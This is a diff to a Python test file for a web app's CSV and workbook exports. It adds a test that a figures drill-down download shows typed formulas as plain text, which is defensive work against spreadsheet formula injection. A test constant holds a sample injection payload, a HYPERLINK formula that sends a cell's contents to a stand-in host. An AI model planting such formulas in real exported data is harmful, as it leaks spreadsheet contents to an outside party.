@@ -21,8 +21,8 @@ from tests.test_casebook.conftest import SignedIn
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://x/?"&A1,"Click")'
 #: Every module that writes CSV or a workbook; each is read back below.
-WRITERS = {"casebook/web/pages/eventlog.py", "projections/presentation/render.py",
-           "projections/presentation/workbook.py"}
+WRITERS = {"casebook/web/pages/eventlog.py", "casebook/web/pages/drilldown.py",
+           "projections/presentation/render.py", "projections/presentation/workbook.py"}
 _WRITING = re.compile(r"csv\.(writer|DictWriter)\(|^\s*(from|import) openpyxl", re.MULTILINE)
 
 
@@ -83,6 +83,16 @@ def test_the_event_log_csv_shows_typed_text_as_text(
     # The category is in the data column, whose JSON starts with "{".
     assert any(json.loads(row[-1]).get("category") == FORMULA
                for row in list(csv.reader(io.StringIO(body)))[1:])
+
+
+def test_a_figures_drill_down_csv_shows_typed_text_as_text(
+    client: FlaskClient, signed_in: SignedIn, engine: Engine
+) -> None:
+    seed(engine)
+    signed_in(client, "officer")
+    response = client.get("/dashboard/figures/enforcement.reports.csv?year=2024/25&quarter=Q1")
+    assert response.status_code == 200
+    assert_csv_is_text(response.get_data(as_text=True), "=1+1")
 
 
 def test_summary_downloads_show_typed_text_as_text(
